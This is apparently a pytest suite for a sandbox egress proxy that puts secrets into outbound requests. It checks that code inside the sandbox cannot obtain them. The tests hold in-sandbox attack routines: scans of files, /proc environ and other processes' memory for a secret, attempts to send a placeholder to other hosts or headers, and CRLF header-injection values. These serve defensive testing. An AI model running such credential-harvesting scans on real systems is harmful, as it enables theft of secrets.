"""What a command can do to get at a secret that is put in for it outside."""

from __future__ import annotations

import asyncio
import base64
import os
import secrets as random
import subprocess
import tempfile
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from tests.attacks.attack import DEADLINE_S, PYTHON, outcome_in, program, soon
from tests.sandbox.egress.site import Site, running_site

from skep.sandbox.egress.gate import gate
from skep.sandbox.egress.network import Event, Network, Secret
from skep.sandbox.egress.policy import Policy, parse_policy
from skep.sandbox.egress.tls import new_authority
from skep.sandbox.leftovers import records_folder
from skep.sandbox.sandbox import Sandbox

VALUE = "s3cr3t-Value-0123456789"


@dataclass(slots=True)
class Vault:
    """Where the secret is fetched from, and what was noticed of its use."""

    value: str = VALUE
    fetched: int = 0
    events: list[Event] = field(default_factory=list)

    async def fetch(self) -> str:
        self.fetched += 1
        if self.value == "fail":
            raise RuntimeError(f"the vault is closed, and would say {VALUE}")
        return self.value

    def kinds(self) -> list[str]:
        return [event.kind for event in self.events]


@dataclass(slots=True)
class World:
    """A sandbox with a secret for api.test, and the server that stands for every host."""

    sandbox: Sandbox
    site: Site
    vault: Vault

    async def curl(self, arguments: str) -> str:
        """Run curl inside; the shell there knows $API_KEY."""
        ran = await self.sandbox.run(f"curl -sS -m 10 {arguments}", timeout_s=DEADLINE_S)
        return ran.text + ran.error_text

    def arrived(self) -> bytes:
        """Return all that the server was sent."""
        return b"".join(seen.path.encode() + seen.head + seen.body for seen in self.site.seen)


@asynccontextmanager
async def world(folder: Path, *, value: str = VALUE, trusted: bool = True) -> AsyncIterator[World]:
    vault = Vault(value)
    async with running_site(name="api.test") as site:
        trust = folder / "trust.pem"
        trust.write_bytes(site.trust if trusted else new_authority()[1])
        upstreams = {"api.test": site.tls_address, "plain.test": site.address, "other.test": site.tls_address}
        network = Network.to(
            "plain.test", "other.test", "api.test:80,443,8443",
            secrets={"API_KEY": Secret("api.test", "Authorization", vault.fetch)},
            upstreams=upstreams, on_event=vault.events.append, trust=str(trust),
        )  # fmt: skip
        async with Sandbox.create(network=network) as sandbox:
            yield World(sandbox, site, vault)


@pytest.fixture
async def given(tmp_path: Path) -> AsyncIterator[World]:
    async with world(tmp_path) as made:
        yield made


async def test_a_secret_goes_into_its_header_towards_its_host(given: World) -> None:
    """This is the control of all below: here the value does arrive."""
    await given.curl('https://api.test/ -H "Authorization: Bearer $API_KEY"')
    assert f"Authorization: Bearer {VALUE}".encode() in given.arrived()
    assert given.vault.fetched == 1
    assert await soon(lambda: "secret_used" in given.vault.kinds())


async def test_a_secret_goes_into_a_user_name_and_password(given: World) -> None:
    said = await given.curl("https://api.test/ -u git:$API_KEY")
    code = base64.b64encode(f"git:{VALUE}".encode())
    assert b"Authorization: Basic " + code in given.arrived()
    assert code.decode() not in said


# Looking for it inside.

_SEARCH_FILES = """
    found = []
    for folder, _, files in os.walk('/'):
        if folder.startswith(('/proc', '/sys', '/usr', '/lib', '/dev')):
            continue
        for name in files:
            try:
                if VALUE in open(os.path.join(folder, name), 'rb').read():
                    found.append(name)
            except OSError:
                pass
    assert found, 'nothing found'
    """
_SEARCH_PROC = """
    found = []
    for pid in filter(str.isdigit, os.listdir('/proc')):
        for name in ('environ', 'cmdline', 'status', 'maps'):
            try:
                if VALUE in open(f'/proc/{pid}/{name}', 'rb').read():
                    found.append((pid, name))
            except OSError:
                pass
    assert found, 'nothing found'
    """
#: Commands are fenced off from each other, so it is a child's memory that is there to be read.
_SEARCH_MEMORY = """
    child = forked(signal.pause)
    found = []
    for pid in filter(str.isdigit, os.listdir('/proc')):
        if int(pid) == os.getpid():
            continue
        try:
            memory = open(f'/proc/{pid}/mem', 'rb', 0)
            for line in open(f'/proc/{pid}/maps'):
                first, last = (int(number, 16) for number in line.split()[0].split('-'))
                try:
                    memory.seek(first)
                    if VALUE in memory.read(min(last - first, 1 << 26)):
                        found.append(pid)
                except (OSError, OverflowError, ValueError):
                    pass
        except OSError:
            pass
    os.kill(child, signal.SIGKILL)
    assert found, 'nothing found'
    """
_USER = "import os, subprocess, time; time.sleep(60) if os.environ.get('API_KEY') else None"


@pytest.mark.parametrize(
    "search", [_SEARCH_PROC, _SEARCH_MEMORY, _SEARCH_FILES], ids=["environment and arguments", "memory", "files"]
)
async def test_a_search_inside_finds_no_secret(search: str, given: World) -> None:
    """In the control the value is in the environment, as it is without a proxy to put it in."""
    async with Sandbox.create(env={"API_KEY": VALUE}) as naive:
        for sandbox, through in ((naive, True), (given.sandbox, False)):
            await sandbox.run("echo $API_KEY > note")
            user = await sandbox.start([PYTHON, "-c", _USER])
            await given.curl('https://api.test/ -H "Authorization: Bearer $API_KEY"')
            # The program itself holds what it looks for, in pieces.
            halves = search.replace("VALUE", "(FIRST + SECOND)")
            searched = await outcome_in(sandbox, program(halves, FIRST=VALUE[:9].encode(), SECOND=VALUE[9:].encode()))
            assert searched.through is through, searched.said
            await user.kill()
            user.release()


@pytest.mark.skipif(os.geteuid() != 0, reason="to read the memory of others takes root")
async def test_the_memory_of_everything_inside_holds_no_secret(given: World) -> None:
    """Seen from the host, the agent that is pid 1 inside too."""
    async with Sandbox.create(env={"API_KEY": VALUE}) as naive:
        for sandbox, holds in ((naive, True), (given.sandbox, False)):
            user = await sandbox.start([PYTHON, "-c", _USER])
            await given.curl('https://api.test/ -H "Authorization: Bearer $API_KEY"')
            inside = _processes_of((await sandbox.run("readlink /proc/self/ns/pid")).text.strip())
            assert len(inside) >= 2
            assert any(_memory_holds(pid, VALUE.encode()) for pid in inside) is holds
            await user.kill()
            user.release()


def _processes_of(namespace: str) -> list[int]:
    found = []
    for path in Path("/proc").glob("[0-9]*/ns/pid"):
        try:
            if str(path.readlink()) == namespace:
                found.append(int(path.parts[2]))
        except OSError:
            continue
    return found


def _memory_holds(pid: int, text: bytes) -> bool:
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            first, last = (int(number, 16) for number in line.split()[0].split("-"))
            try:
                memory.seek(first)
                if text in memory.read(last - first):
                    return True
            except (OSError, OverflowError, ValueError):
                continue
    return False


# Sending its placeholder elsewhere.

STRAYS = {
    "the address": ('"https://api.test/?key=$API_KEY"', "the address"),
    "the body": ('https://api.test/ -d "key=$API_KEY"', "the body"),
    "a body in chunks": ('https://api.test/ -H "Transfer-Encoding: chunked" -d "key=$API_KEY"', "the body"),
    "another header": ('https://api.test/ -H "X-Key: $API_KEY"', "the header X-Key"),
    "another header, encoded": ('https://api.test/ -H "X-Key: Basic $(printf a:$API_KEY | base64 -w0)"', "X-Key"),
    "another host": ('http://plain.test/ -H "Authorization: Bearer $API_KEY"', "the header Authorization"),
    "its host without TLS": ('http://api.test/ -H "Authorization: Bearer $API_KEY"', "the header Authorization"),
}  # fmt: skip


@pytest.mark.parametrize("place", STRAYS)
async def test_a_placeholder_elsewhere_stays_one_and_is_told_of(place: str, given: World) -> None:
    arguments, named = STRAYS[place]
    if place == "its host without TLS":
        await given.sandbox.set_policy(_pinned_plain(given))
    await given.curl(arguments)
    assert given.vault.fetched == 0
    assert VALUE.encode() not in given.arrived()
    assert given.site.seen, "nothing arrived, so this shows nothing"
    assert await soon(lambda: "stray_secret" in given.vault.kinds())
    stray = next(event for event in given.vault.events if event.kind == "stray_secret")
    assert named in str(stray.details["place"])


def _pinned_plain(given: World) -> Policy:
    return parse_policy(["api.test"], upstreams={"api.test": given.site.address})


async def test_a_placeholder_to_another_host_over_tls_stays_one(given: World) -> None:
    """Nobody reads it there, so there is no event either."""
    await given.curl('-k https://other.test/ -H "Authorization: Bearer $API_KEY"')
    assert b"skep-secret-" in given.arrived()
    assert given.vault.fetched == 0


async def test_a_placeholder_to_another_port_of_its_host_stays_one(given: World) -> None:
    await given.curl('-k https://api.test:8443/ -H "Authorization: Bearer $API_KEY"')
    assert b"skep-secret-" in given.arrived()
    assert given.vault.fetched == 0


async def test_the_name_of_its_header_is_read_as_http_reads_names(given: World) -> None:
    await given.curl('https://api.test/ -H "AUTHORIZATION: Bearer $API_KEY"')
    assert f"AUTHORIZATION: Bearer {VALUE}".encode() in given.arrived()


async def test_a_host_by_another_name_in_the_request_gets_no_secret(given: World) -> None:
    said = await given.curl('https://api.test/ -H "Host: other.test" -H "Authorization: Bearer $API_KEY"')
    assert "was sent to api.test" in said
    assert given.vault.fetched == 0
    assert not given.site.seen


# Having it sent back.

ECHOES = ["/", "/chunks", "/drip", "/header", "/to-the-end", "/gzip"]


@pytest.mark.parametrize("path", ECHOES)
async def test_a_host_that_repeats_a_secret_repeats_stars(path: str, given: World) -> None:
    direct = await _direct(given, path)
    assert VALUE in direct, "the server does not repeat it, so this shows nothing"
    said = await given.curl(f'-i --compressed https://api.test{path} -H "Authorization: Bearer $API_KEY"')
    assert f"Bearer {VALUE}".encode() in given.arrived()
    assert VALUE not in said
    assert ("compressed its answer" if path == "/gzip" else "*" * len(VALUE)) in said


async def _direct(given: World, path: str) -> str:
    """Ask the server from outside, with the value itself."""
    child = await asyncio.create_subprocess_exec(
        "curl", "-sk", "--compressed", "-i", "--resolve", f"api.test:{given.site.tls_port}:127.0.0.1",
        f"https://api.test:{given.site.tls_port}{path}", "-H", f"Authorization: Bearer {VALUE}",
        stdout=subprocess.PIPE,
    )  # fmt: skip
    said, _ = await asyncio.wait_for(child.communicate(), DEADLINE_S)
    return said.decode(errors="replace")


async def test_a_secret_that_a_host_kept_does_not_come_back_later(given: World) -> None:
    await given.curl('https://api.test/store -H "Authorization: Bearer $API_KEY"')
    assert VALUE.encode() in given.site.stored
    for address in ("https://api.test/stored", "http://plain.test/stored"):
        said = await given.curl(address)
        assert "*" * len(VALUE) in said
        assert VALUE not in said


async def test_a_part_of_an_answer_is_not_asked_for_with_a_secret(given: World) -> None:
    await given.curl('https://api.test/ -r 0-40 -H "Authorization: Bearer $API_KEY"')
    assert b"range:" not in given.arrived().lower()
    await given.curl("http://plain.test/ -r 0-40")
    assert b"range:" in given.arrived().lower()


# Where it comes from.


@pytest.mark.parametrize(
    ("value", "named"),
    [
        ("good-value\r\nX-Injected: yes", "no header can hold"),
        ("good-value\nX-Injected: yes", "no header can hold"),
        ("good-value\0", "no header can hold"),
        ("sch\u00f6n-und-lang", "no header can hold"),
        ("short", "fewer than 8"),
        ("", "fewer than 8"),
        ("fail", "could not be fetched"),
    ],
)
async def test_a_value_that_cannot_be_used_is_refused_and_not_repeated(value: str, named: str, tmp_path: Path) -> None:
    async with world(tmp_path, value=value) as given:
        said = await given.curl('https://api.test/ -H "Authorization: Bearer $API_KEY"')
        assert "the secret API_KEY is not to be had now" in said
        assert not given.site.seen
        assert await soon(lambda: "secret_unavailable" in given.vault.kinds())
        refused = next(event for event in given.vault.events if event.kind == "secret_unavailable")
        assert named in str(refused.details["reason"])
        assert VALUE not in str(given.vault.events)


async def test_a_host_that_cannot_prove_its_name_gets_no_secret(tmp_path: Path) -> None:
    async with world(tmp_path, trusted=False) as given:
        said = await given.curl('https://api.test/ -H "Authorization: Bearer $API_KEY"')
        assert "has no certificate that can be trusted" in said
        assert not given.site.seen
        assert given.vault.fetched == 0


async def test_a_secret_is_fetched_anew_for_each_request(given: World) -> None:
    for value in ("first-value-of-it", "second-value-of-it"):
        given.vault.value = value
        await given.curl('https://api.test/ -H "Authorization: Bearer $API_KEY"')
        assert value.encode() in given.site.seen[-1].head
    assert given.vault.fetched == 2


async def test_a_secret_is_never_on_disk_nor_in_what_is_told(given: World, tmp_path: Path) -> None:
    """The control is a file that holds it, found by the same search."""
    # Nobody has it yet, so that only what is written from now on can hold it; a disk's clock may lag a little.
    began = time.time() - 2
    value = given.vault.value = f"value-{random.token_hex(16)}"
    await given.curl('https://api.test/ -H "Authorization: Bearer $API_KEY"')
    pid = gate().pid
    assert pid is not None
    planted = tmp_path / "planted"
    planted.write_text(value)
    folders = {Path(tempfile.gettempdir()), Path(records_folder()), tmp_path}
    found = {path for folder in folders for path in await asyncio.to_thread(_files_with, folder, value.encode(), began)}
    assert found == {planted}
    if os.geteuid() == 0:
        assert not _open_files_of(pid)
    assert value not in repr(given.vault.events)
    assert value not in repr(given.sandbox.__dict__)
    child = gate()._child
    assert child is not None
    assert child.said == ""


def _files_with(folder: Path, text: bytes, since: float) -> list[Path]:
    """List the files below a folder that hold a text and have been written since a moment."""
    # Not by `os.walk`: everybody's temporary files are there, and to look at each in Python takes half a minute.
    words = ["find", str(folder), "-type", "f", "-newermt", f"@{since}", "-size", f"-{8 << 20}c", "-print0"]
    listed = subprocess.run(
        words, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, errors="surrogateescape"
    )
    found = []
    for path in map(Path, filter(None, listed.stdout.split("\0"))):
        with suppress(OSError):
            if text in path.read_bytes():
                found.append(path)
    return found


def _open_files_of(pid: int) -> list[str]:
    """List the files on disk that a process has open for writing."""
    links = [str(path.readlink()) for path in Path(f"/proc/{pid}/fd").iterdir()]
    return [link for link in links if link.startswith("/") and not link.startswith(("/dev/", "/memfd:"))]
